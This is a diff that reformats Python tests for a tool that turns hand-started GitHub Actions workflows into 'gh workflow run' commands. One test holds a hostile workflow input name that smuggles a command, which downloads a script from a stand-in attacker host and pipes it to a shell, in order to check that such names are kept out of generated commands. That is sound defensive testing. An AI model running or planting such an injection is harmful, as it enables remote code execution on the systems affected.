@@ -34,46 +34,66 @@ def tasks(root) -> dict:
 
 
 def test_workflows_started_by_hand_are_tasks_with_their_inputs(repo):
-    found = tasks(repo({
-        ".github/workflows/backfill.yml": BACKFILL,
-        ".github/workflows/release.yaml": "on: [push, workflow_dispatch]\njobs: {}\n",
-        ".github/workflows/smoke.yml": "on: workflow_dispatch\njobs: {}\n",
-        ".github/workflows/ci.yml": "on:\n  push:\n  pull_request:\njobs: {}\n",  # automation only
-        ".github/workflows/broken.yml": "on: [workflow_dispatch\n",  # GitHub cannot read it either
-        ".github/workflows/old/deploy.yml": "on: workflow_dispatch\n",  # GitHub only reads the folder itself
-    }))
-    assert sorted(found) == [".github/workflows/backfill.yml", ".github/workflows/release.yaml",
-                             ".github/workflows/smoke.yml"]
+    found = tasks(
+        repo(
+            {
+                ".github/workflows/backfill.yml": BACKFILL,
+                ".github/workflows/release.yaml": "on: [push, workflow_dispatch]\njobs: {}\n",
+                ".github/workflows/smoke.yml": "on: workflow_dispatch\njobs: {}\n",
+                ".github/workflows/ci.yml": "on:\n  push:\n  pull_request:\njobs: {}\n",  # automation only
+                ".github/workflows/broken.yml": "on: [workflow_dispatch\n",  # GitHub cannot read it either
+                ".github/workflows/old/deploy.yml": "on: workflow_dispatch\n",  # GitHub only reads the folder itself
+            }
+        )
+    )
+    assert sorted(found) == [
+        ".github/workflows/backfill.yml",
+        ".github/workflows/release.yaml",
+        ".github/workflows/smoke.yml",
+    ]
     backfill = found[".github/workflows/backfill.yml"]
     assert (backfill.name, backfill.runner, backfill.line) == ("backfill", "github-actions", 2)
     assert backfill.run == "gh workflow run backfill.yml -f month=<month>"  # the only required input without default
-    assert backfill.description == ("Backfill invoices (inputs: month: Month to backfill (YYYY-MM); "
-                                    "dry_run: Only count the rows; region)")
+    assert backfill.description == (
+        "Backfill invoices (inputs: month: Month to backfill (YYYY-MM); dry_run: Only count the rows; region)"
+    )
     assert "database" in backfill.capabilities and "data" in backfill.capabilities
     assert found[".github/workflows/smoke.yml"].run == "gh workflow run smoke.yml"
     assert found[".github/workflows/release.yaml"].description == "release.yaml"
 
 
 def test_a_workflow_that_is_not_a_mapping_is_nothing(repo):
-    assert tasks(repo({".github/workflows/list.yml": "- workflow_dispatch\n",
-                       ".github/workflows/empty.yml": ""})) == {}
+    assert tasks(repo({".github/workflows/list.yml": "- workflow_dispatch\n", ".github/workflows/empty.yml": ""})) == {}
 
 
 def test_input_names_that_are_no_names_never_reach_the_command_line(repo):
-    hostile = ('on:\n  workflow_dispatch:\n    inputs:\n      env:\n        required: true\n'
-               '      "x; curl https://evil.example/p.sh | sh; echo ":\n        required: true\n'
-               '      42:\n        required: true\n')
-    found = tasks(repo({".github/workflows/b.yml": hostile, ".github/workflows/big.yml":
-                        "on: workflow_dispatch\njobs:\n" + "".join(f"  j{n}:\n    runs-on: x\n" for n in range(4000))}))
+    hostile = (
+        "on:\n  workflow_dispatch:\n    inputs:\n      env:\n        required: true\n"
+        '      "x; curl https://evil.example/p.sh | sh; echo ":\n        required: true\n'
+        "      42:\n        required: true\n"
+    )
+    found = tasks(
+        repo(
+            {
+                ".github/workflows/b.yml": hostile,
+                ".github/workflows/big.yml": "on: workflow_dispatch\njobs:\n"
+                + "".join(f"  j{n}:\n    runs-on: x\n" for n in range(4000)),
+            }
+        )
+    )
     assert found[".github/workflows/b.yml"].run == "gh workflow run b.yml -f env=<env>"
     assert found[".github/workflows/big.yml"].run == "gh workflow run big.yml"  # well over 64 KB of YAML
 
 
 def test_only_the_word_on_starts_a_workflow_as_github_reads_it(repo):
-    found = tasks(repo({
-        ".github/workflows/yes.yml": "yes: workflow_dispatch\njobs: {}\n",  # YAML 1.1 true, but not `on`
-        ".github/workflows/cap.yml": "On: workflow_dispatch\njobs: {}\n",
-        ".github/workflows/quoted.yml": '"on": workflow_dispatch\nname: {a: 1}\njobs: {}\n',
-    }))
+    found = tasks(
+        repo(
+            {
+                ".github/workflows/yes.yml": "yes: workflow_dispatch\njobs: {}\n",  # YAML 1.1 true, but not `on`
+                ".github/workflows/cap.yml": "On: workflow_dispatch\njobs: {}\n",
+                ".github/workflows/quoted.yml": '"on": workflow_dispatch\nname: {a: 1}\njobs: {}\n',
+            }
+        )
+    )
     assert sorted(found) == [".github/workflows/quoted.yml"]
     assert found[".github/workflows/quoted.yml"].description == "quoted.yml"  # a name that is no text is left out
